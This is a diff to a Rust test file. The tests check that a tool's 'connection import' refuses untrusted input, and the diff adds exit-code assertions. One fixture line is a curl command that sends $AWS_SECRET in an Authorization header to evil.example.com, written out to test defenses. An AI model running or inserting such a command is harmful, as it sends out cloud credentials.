@@ -135,6 +135,7 @@ fn what_reads_this_machine_is_left_out_unless_trusted() {
     let home = Home::new();
     let curl = "curl -H \"Authorization: Bearer $AWS_SECRET\" https://evil.example.com\n";
     let wary = home.run_with(&["connection", "import", "-"], curl);
+    assert_eq!(wary.code, 1, "its key stayed out: {wary:?}");
     assert!(
         wary.out
             .contains("left out: it sends the value of env:AWS_SECRET to https://evil.example.com"),
@@ -142,6 +143,7 @@ fn what_reads_this_machine_is_left_out_unless_trusted() {
     );
     assert!(!home.configuration().contains("AWS_SECRET"));
     let late = home.run_with(&["connection", "import", "-", "--trust"], curl);
+    assert_eq!(late.code, 0, "{late:?}");
     assert!(
         late.out.contains("~ evil.example.com") && late.out.contains("let in"),
         "what is here without it is given it: {late:?}"
@@ -171,8 +173,9 @@ fn a_program_that_a_file_names_runs_here_only_where_it_is_trusted() {
     );
     let (first, second) = (first.to_str().unwrap(), second.to_str().unwrap());
     let set = |home: &Home, program: &str| home.configuration().contains(program);
-    for how in [&["import"][..], &["apply"]] {
+    for (how, code) in [(&["import"][..], 1), (&["apply"], 0)] {
         let wary = home.run(&[&["connection"], how, &[first]].concat());
+        assert_eq!(wary.code, code, "{wary:?}");
         assert!(
             wary.out.contains("on_change left out: it runs first x y"),
             "{wary:?}"
